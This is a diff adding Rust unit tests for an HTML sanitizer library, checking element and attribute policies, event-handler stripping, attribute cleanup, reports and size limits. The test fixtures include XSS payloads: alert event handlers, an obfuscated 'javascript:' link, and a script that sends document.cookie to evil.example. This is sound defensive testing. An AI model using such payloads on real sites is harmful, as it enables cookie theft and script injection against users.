@@ -1,9 +1,17 @@
-use dom_query::Document;
-use dom_sanitizer::{AllowAllPolicy, DenyAllPolicy, SanitizeExt};
+use std::time::Duration;
+
+use dom_query::{Document, NodeRef};
+use dom_sanitizer::plugin_policy::{AttrChecker, PluginPolicy};
+use dom_sanitizer::report::RemovalKind;
+use dom_sanitizer::transform::{AttrTransform, BOOLEAN_ATTRS, WHITESPACE_SEPARATED_ATTRS};
+use dom_sanitizer::{
+    AllowAllPolicy, DenyAllPolicy, Permissive, PolicyChain, SanitizeExt, SerializeOptions,
+};
+use html5ever::ns;
 
 mod data;
 
-use data::PARAGRAPH_CONTENTS;
+use data::{FOREIGN_CONTENTS, PARAGRAPH_CONTENTS, SVG_CONTENTS};
 
 #[test]
 fn test_restrictive_policy() {
@@ -164,3 +172,1589 @@ fn test_restrictive_selection() {
     sel.sanitize(&policy);
     assert_eq!(doc.select("p:only-text").length(), 4);
 }
+
+#[test]
+fn test_permissive_selection() {
+    let contents = r#"<article><p class="a"><b>One</b></p></article><aside><p class="b"><b>Two</b></p></aside><article><p class="c"><b>Three</b></p></article>"#;
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["b"])
+        .exclude_attrs(&["class"])
+        .build();
+    let doc = Document::from(contents);
+    doc.select("article").sanitize(&policy);
+
+    // every selected node is sanitized, nodes outside the selection are untouched
+    assert_eq!(doc.select("article b, article [class]").length(), 0);
+    assert_eq!(doc.select("article p").length(), 2);
+    assert!(doc.select("aside p.b > b").exists());
+}
+
+#[test]
+fn test_restrictive_policy_prune_empty_wrappers() {
+    let contents = r#"<div><p><a href="/x"></a></p></div><div><p>Text</p></div><div><p><img src="/a.png"></p></div>"#;
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div", "p", "img"])
+        .remove_elements(&["a"])
+        .prune_empty_wrappers(&["div", "p"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+
+    // the first `div` became empty after `a` was removed and `p` was pruned
+    assert_eq!(doc.select("div").length(), 2);
+    assert_eq!(doc.select("p").length(), 2);
+    assert!(doc.select("div > p:has-text('Text')").exists());
+    // elements count as meaningful content
+    assert!(doc.select("div > p > img").exists());
+}
+
+#[test]
+fn test_permissive_policy_prune_empty_wrappers() {
+    let contents = r#"<div><p><a href="/x"> </a></p></div><div><p><a href="/y">Link</a></p></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["a"])
+        .prune_empty_wrappers(&["div", "p"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+
+    assert!(!doc.select("a").exists());
+    assert_eq!(doc.select("div").length(), 1);
+    assert_eq!(doc.select("div > p").text(), "Link".into());
+}
+
+#[test]
+fn test_policy_sanitize_to_text() {
+    let contents = include_str!("../test-pages/table.html");
+
+    // `style` is only unwrapped, so its contents leak into the text
+    let policy = DenyAllPolicy::builder().build();
+    let text = policy.sanitize_to_text(contents);
+    assert!(text.contains("border-collapse: collapse"));
+
+    let policy = DenyAllPolicy::builder()
+        .remove_elements(&["style", "script"])
+        .build();
+    let text = policy.sanitize_to_text(contents);
+    assert!(!text.contains("border-collapse: collapse"));
+    assert!(!text.contains('<'));
+    assert!(text.contains("Nutrition"));
+}
+
+#[test]
+fn test_policy_remove_event_handlers() {
+    let contents = r#"<div onclick="alert(1)" class="box"><img src="/a.png" onerror="alert(2)" alt="A"></div>"#;
+
+    let policy = AllowAllPolicy::builder().remove_event_handlers().build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(doc.select("div.box").exists());
+    assert!(doc.select("img[src][alt]").exists());
+    assert!(!doc.select("[onclick], [onerror]").exists());
+
+    // event handlers are removed even if they were explicitly allowed
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div", "img"])
+        .exclude_attrs(&["class", "onclick"])
+        .exclude_element_attrs("img", &["src", "onerror"])
+        .remove_event_handlers()
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(doc.select("div.box").exists());
+    assert!(doc.select("img[src]").exists());
+    assert!(!doc.select("img[alt]").exists());
+    assert!(!doc.select("[onclick], [onerror]").exists());
+
+    let doc = Document::from(SVG_CONTENTS);
+    let policy = AllowAllPolicy::builder().remove_event_handlers().build();
+    policy.sanitize_document(&doc);
+    assert!(doc.select("svg[style]").exists());
+    assert!(!doc
+        .select("svg[oncontentvisibilityautostatechange]")
+        .exists());
+}
+
+#[test]
+fn test_policy_report_positions() {
+    let contents = "<!DOCTYPE html>
+<html>
+<head><title>Test</title></head>
+<body>
+<div>
+<p class=\"x\">First</p>
+<script>alert(1)</script>
+</div>
+</body>
+</html>";
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p"])
+        .remove_elements(&["script"])
+        .track_positions(true)
+        .build();
+
+    let (html, report) = policy.sanitize_html_report(contents);
+    assert!(!html.contains("<script>"));
+    assert_eq!(report.removed_attrs, 1);
+
+    let removed: Vec<(&str, RemovalKind, Option<u64>)> = report
+        .removed_elements
+        .iter()
+        .map(|e| (e.name.as_ref(), e.kind, e.line))
+        .collect();
+    assert_eq!(
+        removed,
+        vec![
+            ("title", RemovalKind::Unwrapped, Some(3)),
+            ("div", RemovalKind::Unwrapped, Some(5)),
+            ("script", RemovalKind::Removed, Some(7)),
+        ]
+    );
+
+    // positions are not tracked by default
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p"])
+        .remove_elements(&["script"])
+        .build();
+    let (_, report) = policy.sanitize_html_report(contents);
+    assert_eq!(report.removed_elements.len(), 3);
+    assert!(report.removed_elements.iter().all(|e| e.line.is_none()));
+}
+
+#[test]
+fn test_policy_transform_attr() {
+    struct JavascriptHref;
+    impl AttrChecker for JavascriptHref {
+        fn is_match_attr(&self, _node: &NodeRef, attr: &html5ever::Attribute) -> bool {
+            attr.name.local.as_ref() == "href"
+                && attr.value.to_ascii_lowercase().starts_with("javascript:")
+        }
+    }
+
+    let contents = "<a href=\" JAVA\tSCRI\npt:alert(1)\">Evil</a><a href=\"/page\">Good</a>";
+
+    // without cleaning, the obfuscated scheme slips past the check
+    let scheme_policy: PluginPolicy<Permissive> =
+        PluginPolicy::builder().exclude_attr(JavascriptHref).build();
+    let doc = Document::from(contents);
+    scheme_policy.sanitize_document(&doc);
+    assert_eq!(doc.select("a[href]").length(), 2);
+
+    let cleanup = AllowAllPolicy::builder()
+        .transform_attr(
+            "href",
+            &[
+                AttrTransform::StripControlChars,
+                AttrTransform::Trim,
+                AttrTransform::Lowercase,
+            ],
+        )
+        .build();
+    let doc = Document::from(contents);
+    cleanup.sanitize_document(&doc);
+    assert!(doc.select(r#"a[href="javascript:alert(1)"]"#).exists());
+
+    let chain = PolicyChain::new().then(&cleanup).then(&scheme_policy);
+    let doc = Document::from(contents);
+    chain.sanitize_document(&doc);
+    assert_eq!(doc.select("a[href]").length(), 1);
+    assert!(doc.select(r#"a[href="/page"]"#).exists());
+}
+
+#[test]
+fn test_policy_transform_attr_collapse_whitespace() {
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p"])
+        .exclude_attrs(&["class"])
+        .transform_attr(
+            "class",
+            &[AttrTransform::CollapseWhitespace, AttrTransform::Trim],
+        )
+        .build();
+    let html = policy.sanitize_html("<p class=\"  one \n\t two   three \">Text</p>");
+    assert!(html.contains(r#"<p class="one two three">Text</p>"#));
+}
+
+#[test]
+fn test_restrictive_policy_strip_structural() {
+    let contents = r#"<p class="x">Paragraph</p><div><a href="/">Link</a></div>"#;
+
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "a"])
+        .build();
+    let doc = Document::fragment(contents);
+    policy.sanitize_document(&doc);
+    assert_eq!(
+        doc.html(),
+        r#"<html><p>Paragraph</p><a>Link</a></html>"#.into()
+    );
+
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "a"])
+        .allow_strip_structural(true)
+        .build();
+    let doc = Document::fragment(contents);
+    policy.sanitize_document(&doc);
+    assert_eq!(doc.html(), r#"<p>Paragraph</p><a>Link</a>"#.into());
+
+    // for a full document, the `head` contents are kept as well
+    let doc = Document::from(PARAGRAPH_CONTENTS);
+    policy.sanitize_document(&doc);
+    assert!(!doc.select("html, head, body, div").exists());
+    assert_eq!(doc.select("p > a").length(), 3);
+    assert!(doc.root().first_element_child().unwrap().has_name("p"));
+}
+
+#[test]
+fn test_policy_merge_flags() {
+    let contents = "<html>\n<body>\n<div><p>Paragraph</p></div>\n</body></html>";
+    let base = DenyAllPolicy::builder()
+        .track_positions(true)
+        .allow_strip_structural(true)
+        .build();
+
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p"])
+        .merge(base)
+        .build();
+    let (html, report) = policy.sanitize_html_report(contents);
+    assert!(!html.contains("<body>"));
+    assert!(html.contains("<p>Paragraph</p>"));
+    let div = report
+        .removed_elements
+        .iter()
+        .find(|e| e.name.as_ref() == "div")
+        .unwrap();
+    assert_eq!(div.line, Some(3));
+}
+
+#[test]
+fn test_policy_allow_data_images() {
+    let large_data = "A".repeat(4000);
+    let contents = format!(
+        r#"<img id="small" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">
+        <img id="large" src="data:image/png;base64,{large_data}">
+        <img id="svg" src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">
+        <img id="remote" src="https://example.com/a.png">
+        <iframe id="html" src="data:text/html,<script>alert(1)</script>"></iframe>"#
+    );
+
+    let policy = AllowAllPolicy::builder().allow_data_images(1024).build();
+    let doc = Document::from(contents.as_str());
+    policy.sanitize_document(&doc);
+
+    assert!(doc.select("#small[src]").exists());
+    assert!(doc.select("#remote[src]").exists());
+    assert!(!doc.select("#large[src]").exists());
+    assert!(!doc.select("#svg[src]").exists());
+    assert!(!doc.select("#html[src]").exists());
+
+    // the limit is applied to the decoded size
+    let policy = AllowAllPolicy::builder().allow_data_images(3000).build();
+    let doc = Document::from(contents.as_str());
+    policy.sanitize_document(&doc);
+    assert!(doc.select("#large[src]").exists());
+}
+
+#[test]
+fn test_policy_remove_namespaces() {
+    let policy = AllowAllPolicy::builder()
+        .remove_namespaces(&[
+            "http://www.w3.org/2000/svg",
+            "http://www.w3.org/1998/Math/MathML",
+        ])
+        .build();
+    let doc = Document::from(FOREIGN_CONTENTS);
+    assert!(doc.select("svg circle").exists());
+    assert!(doc.select("math mi").exists());
+
+    policy.sanitize_document(&doc);
+    assert!(!doc.select("svg, circle, math, mi").exists());
+    assert!(!doc.html().contains("SVG text"));
+    assert!(doc.select("p").exists());
+}
+
+#[test]
+fn test_policy_sanitize_document_changed() {
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .transform_attr("class", &[AttrTransform::Trim])
+        .build();
+
+    let doc = Document::from(r#"<div class="a"><p>Text</p></div>"#);
+    assert!(!policy.sanitize_document_changed(&doc));
+
+    let doc = Document::from(r#"<div class="a"><script>alert(1)</script></div>"#);
+    assert!(policy.sanitize_document_changed(&doc));
+    // the second pass has nothing left to do
+    assert!(!policy.sanitize_document_changed(&doc));
+
+    let doc = Document::from(r#"<div class=" a "><p>Text</p></div>"#);
+    assert!(policy.sanitize_document_changed(&doc));
+    assert!(doc.select(r#"div[class="a"]"#).exists());
+}
+
+#[cfg(feature = "regex")]
+#[test]
+fn test_policy_strip_text_patterns() {
+    use regex::Regex;
+
+    let patterns = [
+        Regex::new(r"\{\{.*?\}\}").unwrap(),
+        Regex::new(r"<%.*?%>").unwrap(),
+    ];
+    let policy = AllowAllPolicy::builder()
+        .strip_text_patterns(&patterns)
+        .build();
+    let contents = r#"<div title="{{ keep }}"><p>Hello, {{ user.name }}!</p><p>Total: &lt;%= total %&gt;</p></div>"#;
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+
+    assert_eq!(doc.select("p").first().text(), "Hello, !".into());
+    assert_eq!(doc.select("p").last().text(), "Total: ".into());
+    // attributes are not affected
+    assert!(doc.select(r#"div[title="{{ keep }}"]"#).exists());
+}
+
+#[test]
+fn test_policy_rename_elements() {
+    let contents = r#"<center class="x"><p>Centered <b>bold</b> text</p></center>"#;
+
+    let policy = AllowAllPolicy::builder()
+        .rename_elements(&[("center", "div"), ("b", "strong")])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(!doc.select("center, b").exists());
+    assert!(doc.select(r#"div[class="x"] > p > strong"#).exists());
+    assert_eq!(doc.select("div").text(), "Centered bold text".into());
+    // renamed elements stay in the HTML namespace
+    let renamed = doc.select("div").nodes()[0];
+    assert_eq!(renamed.qual_name_ref().unwrap().ns, ns!(html));
+
+    // rules apply to the new name
+    let policy = DenyAllPolicy::builder()
+        .rename_elements(&[("center", "div")])
+        .exclude_elements(&["div", "p"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(doc.select("div > p").exists());
+    assert!(!doc.select("b").exists());
+}
+
+#[test]
+fn test_policy_sanitize_html_pretty() {
+    let policy = AllowAllPolicy::builder()
+        .exclude_attrs(&["onclick"])
+        .build();
+    let contents = "<!DOCTYPE html><html><head><title>Test</title></head><body><div onclick=\"x()\"><p>Some <b>bold</b> &amp; text</p><pre>  line 1\n    line 2</pre></div></body></html>";
+    let html = policy.sanitize_html_pretty(contents);
+    let expected = "<!DOCTYPE html>
+<html>
+  <head>
+    <title>Test</title>
+  </head>
+  <body>
+    <div>
+      <p>Some <b>bold</b> &amp; text</p>
+      <pre>  line 1
+    line 2</pre>
+    </div>
+  </body>
+</html>
+";
+    assert_eq!(html.as_ref(), expected);
+}
+
+#[test]
+fn test_policy_builder_clone() {
+    let base = AllowAllPolicy::builder().remove_elements(&["script"]);
+    let strict = base.clone().exclude_elements(&["a"]).build();
+    let relaxed = base.build();
+
+    let contents = r#"<p><a href="/">Link</a><script>alert(1)</script></p>"#;
+    let strict_html = strict.sanitize_html(contents);
+    let relaxed_html = relaxed.sanitize_html(contents);
+    assert!(strict_html.contains("<p>Link</p>"));
+    assert!(relaxed_html.contains(r#"<p><a href="/">Link</a></p>"#));
+    assert!(!strict_html.contains("script") && !relaxed_html.contains("script"));
+}
+
+#[test]
+fn test_policy_sanitize_reader() {
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .build();
+    let contents = r#"<p>Text<script>alert(1)</script></p>"#;
+    let html = policy.sanitize_reader(contents.as_bytes()).unwrap();
+    assert!(html.contains("<p>Text</p>"));
+
+    let invalid: &[u8] = &[b'<', b'p', b'>', 0xff, 0xfe];
+    let err = policy.sanitize_reader(invalid).unwrap_err();
+    assert_eq!(err.kind(), std::io::ErrorKind::InvalidData);
+}
+
+#[test]
+fn test_policy_cap_attr_tokens() {
+    let policy = AllowAllPolicy::builder()
+        .cap_attr_tokens("class", 2)
+        .build();
+    let contents = r#"<div class="a  b c d"><p class="x y">Text</p></div>"#;
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(doc.select(r#"div[class="a b"]"#).exists());
+    assert!(doc.select(r#"p[class="x y"]"#).exists());
+}
+
+#[test]
+fn test_policy_elements_from_str() {
+    let elements = "
+        # elements to keep
+        p a
+
+        mark # highlighted text
+    ";
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements_str(elements)
+        .remove_elements_str("script\nstyle")
+        .build();
+    let doc = Document::from(PARAGRAPH_CONTENTS);
+    policy.sanitize_document(&doc);
+    assert!(doc.select("p > a").exists());
+    assert!(doc.select("mark").exists());
+    assert!(!doc.select("div, b").exists());
+
+    let html = policy.sanitize_html("<p>Text<script>alert(1)</script><style>p {}</style></p>");
+    assert!(html.contains("<p>Text</p>"));
+}
+
+#[test]
+fn test_policy_dedupe_attrs() {
+    let doc = Document::from(r#"<a href="/" rel="nofollow">Link</a>"#);
+    let a = doc.select("a").nodes()[0];
+    // a duplicate `rel` added by other code
+    a.update(|n| {
+        let el = n.as_element_mut().unwrap();
+        let mut rel = el.attrs[1].clone();
+        rel.value = "noopener".into();
+        el.attrs.push(rel);
+    });
+    assert_eq!(a.attrs().len(), 3);
+
+    let policy = AllowAllPolicy::builder().dedupe_attrs(true).build();
+    policy.sanitize_document(&doc);
+    let attrs = a.attrs();
+    assert_eq!(attrs.len(), 2);
+    // the tokens of a duplicate `rel` are merged
+    assert_eq!(a.attr("rel").unwrap(), "nofollow noopener".into());
+
+    // other duplicates keep the first value
+    a.update(|n| {
+        let el = n.as_element_mut().unwrap();
+        let mut href = el.attrs[0].clone();
+        href.value = "/other".into();
+        el.attrs.push(href);
+    });
+    policy.sanitize_document(&doc);
+    assert_eq!(a.attrs().len(), 2);
+    assert_eq!(a.attr("href").unwrap(), "/".into());
+
+    // enforcing `rel` from the finalizer on a link that already has one
+    let policy = AllowAllPolicy::builder()
+        .dedupe_attrs(true)
+        .with_finalizer(|node| {
+            let links: Vec<NodeRef> = node.descendants_it().filter(|n| n.has_name("a")).collect();
+            for link in links {
+                link.update(|n| {
+                    let el = n.as_element_mut().unwrap();
+                    let mut rel = el.attrs[1].clone();
+                    rel.value = "noopener nofollow".into();
+                    el.attrs.push(rel);
+                });
+            }
+        })
+        .build();
+    let html = policy.sanitize_html(r#"<a href="/" rel="nofollow">Link</a>"#);
+    assert!(html.contains(r#"<a href="/" rel="nofollow noopener">Link</a>"#));
+}
+
+#[test]
+fn test_policy_escape_elements() {
+    let policy = AllowAllPolicy::builder()
+        .escape_elements(&["script"])
+        .build();
+    let contents =
+        r#"<div><p>Example:</p><script type="text/javascript">alert("<b>1</b>")</script></div>"#;
+    let doc = Document::from(contents);
+    let report = policy.sanitize_document_report(&doc);
+
+    assert!(!doc.select("script").exists());
+    assert!(!doc.select("b").exists());
+    assert!(doc.select("div").html().contains(
+        r#"<p>Example:</p>&lt;script type="text/javascript"&gt;alert("&lt;b&gt;1&lt;/b&gt;")&lt;/script&gt;"#
+    ));
+    assert_eq!(report.removed_elements.len(), 1);
+    assert_eq!(report.removed_elements[0].kind, RemovalKind::Escaped);
+}
+
+#[test]
+fn test_restrictive_policy_allow() {
+    let policy = DenyAllPolicy::builder()
+        .allow(&[("p", &["role"]), ("a", &["href"]), ("mark", &[])])
+        .build();
+    let doc = Document::from(PARAGRAPH_CONTENTS);
+    policy.sanitize_document(&doc);
+
+    assert_eq!(doc.select(r#"p[role="paragraph"]"#).length(), 4);
+    assert!(!doc.select("p[id]").exists());
+    assert_eq!(doc.select("a[href]").length(), 3);
+    assert!(!doc.select("a[role]").exists());
+    assert!(doc.select("mark").exists());
+    assert!(!doc.select("div, b").exists());
+}
+
+#[test]
+fn test_policy_template_contents() {
+    let contents = r#"<div>
+        <template id="row"><p onclick="alert(1)">Row</p><script>alert(1)</script>
+            <template><script>alert(2)</script><b onclick="alert(2)">Nested</b></template>
+        </template>
+    </div>"#;
+
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .exclude_attrs(&["onclick"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let html = doc.html();
+    assert!(!html.contains("script"));
+    assert!(!html.contains("onclick"));
+    assert!(html.contains("<p>Row</p>"));
+    assert!(html.contains("<b>Nested</b>"));
+
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div", "template", "p"])
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    let html = doc.html();
+    assert!(!html.contains("<script>"));
+    assert!(!html.contains("<b>"));
+    assert!(html.contains(r#"<template><p>Row</p>alert(1)"#));
+}
+
+#[test]
+fn test_policy_inverted() {
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["mark", "b"])
+        .exclude_attrs(&["role"])
+        .remove_elements(&["a"])
+        .build();
+
+    let doc = Document::from(PARAGRAPH_CONTENTS);
+    policy.sanitize_document(&doc);
+    assert!(!doc.select("mark, b, a, [role]").exists());
+    assert!(doc.select("div > p[id]").exists());
+
+    let inverted = policy.inverted();
+    let doc = Document::from(PARAGRAPH_CONTENTS);
+    inverted.sanitize_document(&doc);
+    assert!(doc.select("mark").exists());
+    assert!(doc.select("b").exists());
+    assert!(!doc.select("div, p, a").exists());
+
+    let policy = inverted.inverted();
+    let doc = Document::from(PARAGRAPH_CONTENTS);
+    policy.sanitize_document(&doc);
+    assert!(!doc.select("mark, b, a, [role]").exists());
+}
+
+#[test]
+fn test_policy_sanitize_document_quarantine() {
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .exclude_elements(&["span"])
+        .build();
+    let contents =
+        r#"<p>Text<script>alert("x")</script><span class="x" onclick="steal()">inner</span></p>"#;
+
+    let doc = Document::from(contents);
+    let quarantine = policy.sanitize_document_quarantine(&doc, 1024);
+    assert_eq!(
+        quarantine,
+        [
+            r#"<script>alert("x")</script>"#.into(),
+            r#"<span class="x" onclick="steal()">"#.into()
+        ]
+    );
+    assert!(doc.select("p").html().contains("<p>Textinner</p>"));
+
+    // the limit is reached after the first element
+    let doc = Document::from(contents);
+    let quarantine = policy.sanitize_document_quarantine(&doc, 30);
+    assert_eq!(quarantine.len(), 1);
+}
+
+#[test]
+fn test_policy_collect_removed_scripts() {
+    let contents = r#"<p>Text<script>fetch("https://evil.example/?c=" + document.cookie)</script><style>p { color: red }</style><span>inner</span></p>"#;
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script", "style", "span"])
+        .collect_removed_scripts(true)
+        .build();
+
+    let doc = Document::from(contents);
+    let report = policy.sanitize_document_report(&doc);
+    let raw_texts: Vec<_> = report
+        .removed_elements
+        .iter()
+        .filter_map(|removed| removed.raw_text.as_deref())
+        .collect();
+    assert_eq!(
+        raw_texts,
+        [
+            r#"fetch("https://evil.example/?c=" + document.cookie)"#,
+            "p { color: red }"
+        ]
+    );
+    // other removed elements and their markup are not captured
+    assert_eq!(report.removed_elements.len(), 3);
+    assert!(report.removed_elements[2].raw_text.is_none());
+    assert!(report.removed_elements.iter().all(|r| r.markup.is_none()));
+    assert_eq!(doc.select("p").html(), "<p>Text</p>".into());
+
+    // disabled by default
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["script"])
+        .build();
+    let doc = Document::from(contents);
+    let report = policy.sanitize_document_report(&doc);
+    assert!(report.removed_elements[0].raw_text.is_none());
+}
+
+#[test]
+fn test_policy_default_attr() {
+    let contents =
+        r#"<p><img src="a.png"><img src="b.png" loading="eager"><a href="/">Link</a></p>"#;
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "img"])
+        .exclude_element_attrs("img", &["src", "loading"])
+        .default_attr("img", "loading", "lazy")
+        .build();
+    let html = policy.sanitize_html(contents);
+    assert!(html.contains(
+        r#"<p><img src="a.png" loading="lazy"><img src="b.png" loading="eager">Link</p>"#
+    ));
+
+    // the default attribute is set even if the policy doesn't allow it
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "a"])
+        .exclude_element_attrs("a", &["href"])
+        .default_attr("a", "rel", "noopener")
+        .build();
+    let html = policy.sanitize_html(contents);
+    assert!(html.contains(r#"<p><a href="/" rel="noopener">Link</a></p>"#));
+}
+
+#[test]
+fn test_policy_trust_marker() {
+    let trusted = r#"<div data-trusted="" class="embed"><iframe src="https://video.example/1"></iframe><span onclick="play()">Play</span></div>"#;
+    let contents = format!(
+        r#"<div><p onclick="x()">Text<iframe src="https://evil.example/"></iframe></p>{trusted}</div>"#
+    );
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div", "p"])
+        .remove_elements(&["iframe"])
+        .trust_marker("data-trusted")
+        .build();
+    let html = policy.sanitize_html(contents.as_str());
+    // content under the marker survives unchanged
+    assert!(html.contains(&format!("<div><p>Text</p>{trusted}</div>")));
+
+    // without the marker, the same content is sanitized
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div", "p"])
+        .remove_elements(&["iframe"])
+        .build();
+    let html = policy.sanitize_html(contents.as_str());
+    assert!(html.contains("<div><p>Text</p><div>Play</div></div>"));
+}
+
+#[test]
+fn test_policy_is_clean() {
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["p", "a", "b"])
+        .exclude_element_attrs("a", &["href"])
+        .build();
+    assert!(policy.is_clean(r#"<p>Text with <a href="/">a link</a> and <b>bold</b></p>"#));
+    // markup fixed by the parser is not a violation
+    assert!(policy.is_clean("<p>Unclosed <b>bold"));
+
+    assert!(!policy.is_clean(r#"<p onclick="x()">Text</p>"#));
+    assert!(!policy.is_clean("<p>Text<script>alert(1)</script></p>"));
+    assert!(!policy.is_clean("<div>Text</div>"));
+
+    // rules that are not tracked by reports count as well
+    let policy = AllowAllPolicy::builder().strip_comments().build();
+    assert!(policy.is_clean("<p>Text</p>"));
+    assert!(!policy.is_clean("<p>Text<!-- comment --></p>"));
+}
+
+#[test]
+fn test_policy_preformatted_whitespace() {
+    let contents = "<div><pre><code>fn main() {\n    let x<span>=</span>1;\n    <b>  </b>\n    <i> <i>nested</i> </i>\n}</code></pre><p>a<span>b</span>c <b> </b><i> <i>d</i> </i></p></div>";
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["span"])
+        .insert_space_on_unwrap(true)
+        .prune_empty_wrappers(&["b"])
+        .collapse_nested(&["i"])
+        .build();
+    let html = policy.sanitize_html(contents);
+    // the contents of `pre` survive byte-for-byte, except for the unwrapped `span`
+    assert!(html.contains(
+        "<pre><code>fn main() {\n    let x=1;\n    <b>  </b>\n    <i> <i>nested</i> </i>\n}</code></pre>"
+    ));
+    // outside of `pre`, whitespace is not significant
+    assert!(html.contains("<p>a b c <i>d</i></p>"));
+}
+
+#[test]
+fn test_policy_exclude_namespace_attrs() {
+    let svg_ns = "http://www.w3.org/2000/svg";
+    let policy = DenyAllPolicy::builder()
+        .exclude_elements(&["div", "svg", "linearGradient", "stop", "rect", "circle"])
+        .exclude_namespace_attrs(svg_ns, &["viewBox", "id", "offset", "stop-color", "x", "y"])
+        .exclude_element_attrs("circle", &["r"])
+        .exclude_attrs(&["class"])
+        .build();
+    let doc = Document::from(SVG_CONTENTS);
+    policy.sanitize_document(&doc);
+
+    let svg = doc.select("svg");
+    assert!(svg.has_attr("viewBox"));
+    assert!(!svg.has_attr("oncontentvisibilityautostatechange"));
+    assert!(!svg.has_attr("style"));
+    assert!(!svg.has_attr("role"));
+    assert!(doc.select(r#"linearGradient[id="gradient"]"#).exists());
+    assert!(doc.select(r#"rect[x="0"][y="0"]"#).exists());
+    assert!(!doc.select("rect").has_attr("width"));
+    // element-scoped and global rules apply in addition to the namespace rule
+    assert!(doc.select(r#"circle[r="30"]"#).exists());
+    assert!(!doc.select("circle").has_attr("cx"));
+    assert!(doc
+        .select(r#"stop[class="begin"][offset="0%"][stop-color="red"]"#)
+        .exists());
+    assert!(doc.select(r#"div[class="text"]"#).exists());
+
+    // the namespace rule doesn't apply to HTML elements
+    let policy = AllowAllPolicy::builder()
+        .exclude_namespace_attrs(svg_ns, &["class", "style"])
+        .build();
+    let doc = Document::from(
+        r#"<div class="a" style="color: red"><svg class="b" style="fill: red"></svg></div>"#,
+    );
+    policy.sanitize_document(&doc);
+    assert!(doc.select(r#"div[class="a"][style]"#).exists());
+    assert!(!doc.select("svg").has_attr("class"));
+    assert!(!doc.select("svg").has_attr("style"));
+}
+
+#[test]
+fn test_policy_drop_empty_attrs() {
+    let contents = r#"<div class="  " title="Title" style=" "><img src="a.png" alt="" class="x"><input disabled="" value=""></div>"#;
+    let policy = AllowAllPolicy::builder()
+        .cap_attr_tokens("class", 0)
+        .drop_empty_attrs(true)
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    // `class` is emptied by the token cap and then dropped entirely
+    assert!(!doc.select("[class]").exists());
+    assert!(!doc.select("div").has_attr("style"));
+    assert!(doc.select(r#"div[title="Title"]"#).exists());
+    assert!(!doc.select("input").has_attr("value"));
+    // an empty `alt` and boolean attributes are meaningful
+    assert!(doc.select(r#"img[alt=""]"#).exists());
+    assert!(doc.select("input[disabled]").exists());
+
+    // disabled by default
+    let policy = AllowAllPolicy::builder()
+        .cap_attr_tokens("class", 0)
+        .build();
+    let doc = Document::from(contents);
+    policy.sanitize_document(&doc);
+    assert!(doc.select(r#"img[class=""]"#).exists());
+}
+
+#[test]
+fn test_policy_max_elements() {
+    let contents = "<article><h1>Title</h1><p>First <b>bold</b> paragraph, tail.</p><p>Second</p></article><footer>Footer</footer>";
+    let policy = AllowAllPolicy::builder()
+        .remove_elements(&["footer"])
+        .max_elements(3)
+        .build();
+    let doc = Document::from(contents);
+    let report = policy.sanitize_document_report(&doc);
+    // `article`, `h1` and `p` are kept, everything from `b` on is removed, including text
+    assert_eq!(
+        doc.select("body").html(),
+        "<body><article><h1>Title</h1><p>First </p></article></body>".into()
+    );
+    let removed: Vec<&str> = report
+        .removed_elements
+        .iter()
+        .map(|r| r.name.as_ref())
+        .collect();
+    assert_eq!(removed, ["footer", "p", "b"]);
+
+    // unwrapped elements don't count
+    let policy = AllowAllPolicy::builder()
+        .exclude_elements(&["article", "b"])
+        .max_elements(3)
+        .build();
+    let html = policy.sanitize_html(contents);
+    assert!(
+        html.contains("<body><h1>Title</h1><p>First bold paragraph, tail.</p><p>Second</p></body>")
+    );
+
+    // the limit is reached in `head`: `body` is kept, without its contents
+    let policy = AllowAllPolicy::builder().max_elements(1).build();
+    let html = policy.sanitize_html("<html><head><title>T</title><meta charset=\"utf-8\"></head><body><p>Text</p></body></html>");
+    assert!(html.contains("<head><title>T</title></head><body></body>"));
+
+    // template contents count in place, they don't get a budget of their own
+    let policy = AllowAllPolicy::builder().max_elements(2).build();
+    let html =
